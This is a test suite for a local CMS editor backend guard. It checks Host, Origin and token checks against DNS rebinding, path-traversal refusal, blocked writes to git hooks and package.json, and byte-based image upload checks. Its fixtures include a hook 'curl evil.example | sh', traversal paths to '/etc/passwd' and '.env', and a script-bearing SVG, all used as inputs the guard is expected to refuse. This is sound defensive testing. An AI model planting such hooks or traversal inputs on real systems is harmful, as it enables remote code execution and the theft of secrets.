import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { actionProblem, pathProblem } from '../cms-guard';
import { type LocalBackend, startLocalBackend } from '../local-backend';
import { detectRaster, localeOfAcceptLanguage } from '../raster';
import { uploadsFolderProblems } from '../uploads';

const EDITOR = 'http://localhost:8080';

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** A request with exactly these headers (fetch would not let a test set Host). */
function send(url: string, body: unknown, headers: Record<string, string>, method = 'POST') {
  const target = new URL(url);
  const payload = body === undefined ? '' : JSON.stringify(body);
  return new Promise<Answer>((resolve, reject) => {
    const req = request(
      {
        host: '127.0.0.1',
        port: target.port,
        path: `${target.pathname}${target.search}`,
        method,
        headers: { 'content-type': 'application/json', ...headers },
      },
      (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => {
          text += chunk;
        });
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text }),
        );
      },
    );
    req.on('error', reject);
    req.end(payload);
  });
}

describe('the local editor guard (npm run cms)', () => {
  let repo: string;
  let backend: LocalBackend;
  let host: string;
  const editor = (body: unknown, headers: Record<string, string> = {}) =>
    send(backend.url, body, { host, origin: EDITOR, ...headers });
  const branch = 'main';

  beforeAll(async () => {
    repo = mkdtempSync(join(tmpdir(), 'retinova-guard-'));
    mkdirSync(join(repo, 'src/content/pages'), { recursive: true });
    mkdirSync(join(repo, 'public/media/uploads'), { recursive: true });
    mkdirSync(join(repo, '.git/hooks'), { recursive: true });
    mkdirSync(join(repo, 'data'), { recursive: true });
    writeFileSync(join(repo, 'src/content/pages/home.en.yml'), 'title: Home\n');
    writeFileSync(join(repo, '.env'), 'SMTP_URL=smtp://user:secret@mail.example\n');
    writeFileSync(join(repo, 'data/site.db'), 'visitor messages');
    writeFileSync(join(repo, 'package.json'), '{"scripts":{}}\n');
    backend = await startLocalBackend({ repoDir: repo, editorOrigins: [EDITOR], log: () => {} });
    host = new URL(backend.url).host;
  }, 30_000);
  afterAll(async () => {
    await backend.stop();
    rmSync(repo, { recursive: true, force: true });
  });

  it('lets the editor read and write content and upload a PNG', async () => {
    const read = await editor({
      action: 'getEntry',
      params: { branch, path: 'src/content/pages/home.en.yml' },
    });
    expect(read.status).toBe(200);
    expect(read.headers['access-control-allow-origin']).toBe(EDITOR);
    expect(JSON.parse(read.body).raw ?? JSON.parse(read.body).data).toContain('title: Home');
    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#123456' } })
      .png()
      .toBuffer();
    const upload = await editor({
      action: 'persistMedia',
      params: {
        branch,
        asset: {
          path: 'public/media/uploads/dot.png',
          content: png.toString('base64'),
          encoding: 'base64',
        },
        options: { commitMessage: 'upload' },
      },
    });
    expect(upload.status, upload.body).toBe(200);
    expect(readFileSync(join(repo, 'public/media/uploads/dot.png')).equals(png)).toBe(true);
    const preflight = await send(backend.url, undefined, { host, origin: EDITOR }, 'OPTIONS');
    expect(preflight.status).toBe(204);
    expect(preflight.headers['access-control-allow-origin']).toBe(EDITOR);
  });

  it('refuses a wrong Host (a rebound DNS name), a wrong or missing Origin and a wrong token', async () => {
    const info = { action: 'info' };
    const port = new URL(backend.url).port;
    expect((await editor(info, { host: `rebind.example:${port}` })).status).toBe(421);
    expect((await editor(info, { origin: 'http://localhost:3000' })).status).toBe(403);
    expect((await editor(info, { origin: 'null' })).status).toBe(403);
    expect((await send(backend.url, info, { host })).status).toBe(403);
    const wrongToken = backend.url.replace(/\/[^/]+\/api\/v1$/, '/not-the-token/api/v1');
    expect((await send(wrongToken, info, { host, origin: EDITOR })).status).toBe(403);
    const noToken = backend.url.replace(/\/[^/]+\/api\/v1$/, '/api/v1');
    expect((await send(noToken, info, { host, origin: EDITOR })).status).toBe(403);
    expect((await editor(info)).status).toBe(200);
  });

  it('refuses every path outside src/content and the uploads folder, and unknown actions', async () => {
    for (const params of [
      { action: 'getMediaFile', params: { branch, path: '.env' } },
      { action: 'getMediaFile', params: { branch, path: 'data/site.db' } },
      { action: 'getEntry', params: { branch, path: 'src/content/../../.env' } },
      { action: 'getEntry', params: { branch, path: '../x' } },
      { action: 'getEntry', params: { branch, path: '/etc/passwd' } },
      { action: 'entriesByFolder', params: { branch, folder: '.', extension: 'yml', depth: 1 } },
      { action: 'getMedia', params: { branch, mediaFolder: '.git' } },
      {
        action: 'deleteFile',
        params: { branch, path: 'package.json', options: { commitMessage: 'x' } },
      },
      { action: 'unpublishedEntries', params: { branch } },
      { action: 'runCommand', params: {} },
    ]) {
      const answer = await editor(params);
      expect(answer.status, JSON.stringify(params)).toBe(422);
      expect(answer.body, JSON.stringify(params)).not.toContain('secret');
      expect(answer.body).not.toContain('visitor messages');
    }
    expect(existsSync(join(repo, 'package.json'))).toBe(true);
  });

  it('refuses writing hooks or package.json, and uploads that are not raster images by content', async () => {
    const write = (path: string, content: Buffer, language = 'zh-CN') =>
      editor(
        {
          action: 'persistMedia',
          params: {
            branch,
            asset: { path, content: content.toString('base64'), encoding: 'base64' },
            options: { commitMessage: 'x' },
          },
        },
        { 'accept-language': language },
      );
    const hook = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
    expect((await write('.git/hooks/pre-commit', hook)).status).toBe(422);
    expect((await write('package.json', Buffer.from('{"scripts":{"test":"evil"}}'))).status).toBe(
      422,
    );
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    );
    const refused = await write('public/media/uploads/logo.png', svg);
    expect(refused.status).toBe(422);
    expect(JSON.parse(refused.body).error).toContain('只能上传 JPEG、PNG、WebP 或 AVIF 图片');
    const html = await write(
      'public/media/uploads/page.jpg',
      Buffer.from('<!doctype html><script>x</script>'),
      'en',
    );
    expect(JSON.parse(html.body).error).toContain('Only JPEG, PNG, WebP or AVIF images');
    expect(existsSync(join(repo, '.git/hooks/pre-commit'))).toBe(false);
    expect(existsSync(join(repo, 'public/media/uploads/logo.png'))).toBe(false);
    expect(readFileSync(join(repo, 'package.json'), 'utf8')).toBe('{"scripts":{}}\n');
  });
});

describe('the guard’s rules', () => {
  it('takes only normalised paths inside the editable folders', () => {
    expect(pathProblem('src/content/pages/home.en.yml')).toBeUndefined();
    expect(pathProblem('public/media/uploads/a.png')).toBeUndefined();
    for (const path of [
      'src/contentx/a',
      'src/content/./a',
      'src/content//a',
      'src\\content\\a',
      'src/content/a\0',
      '',
      7,
    ]) {
      expect(pathProblem(path), String(path)).toBeDefined();
    }
    expect(
      actionProblem({
        action: 'persistEntry',
        params: { entry: { path: 'src/content/a.yml', newPath: '.git/config' }, assets: [] },
      }),
    ).toMatch(/outside/);
  });

  it('recognises the four image types by their bytes, and the editor’s language', () => {
    expect(detectRaster(Buffer.from([0xff, 0xd8, 0xff, 0xe0]))).toBe('jpeg');
    expect(detectRaster(Buffer.from('RIFF\0\0\0\0WEBPVP8 '))).toBe('webp');
    expect(detectRaster(Buffer.from('\0\0\0\x1cftypavif\0\0\0\0'))).toBe('avif');
    expect(detectRaster(Buffer.from('<svg'))).toBeUndefined();
    expect(localeOfAcceptLanguage('zh-TW,zh;q=0.9')).toBe('zh-hant');
    expect(localeOfAcceptLanguage('en-US,en;q=0.9')).toBe('en');
    expect(localeOfAcceptLanguage(undefined)).toBe('zh-hans');
  });
});

describe('the build’s gate on the uploads folder', () => {
  it('names every upload that is not a raster image by its bytes, whatever its name', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'retinova-uploads-'));
    const folder = join(dir, 'media/uploads');
    mkdirSync(join(folder, 'nested'), { recursive: true });
    const png = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    writeFileSync(join(folder, 'photo.png'), png);
    writeFileSync(join(folder, 'README.md'), '# Uploads\n');
    writeFileSync(join(folder, 'logo.png'), '<svg xmlns="http://www.w3.org/2000/svg"/>');
    writeFileSync(join(folder, 'nested/page.html'), '<!doctype html>');
    const problems = uploadsFolderProblems(dir).map((p) => p.replace(/^.*media\/uploads\//, ''));
    expect(problems.sort()).toEqual([
      expect.stringMatching(/^logo\.png: Only JPEG, PNG, WebP or AVIF/),
      expect.stringMatching(/^nested\/page\.html: Only JPEG/),
    ]);
    rmSync(dir, { recursive: true, force: true });
  });
});
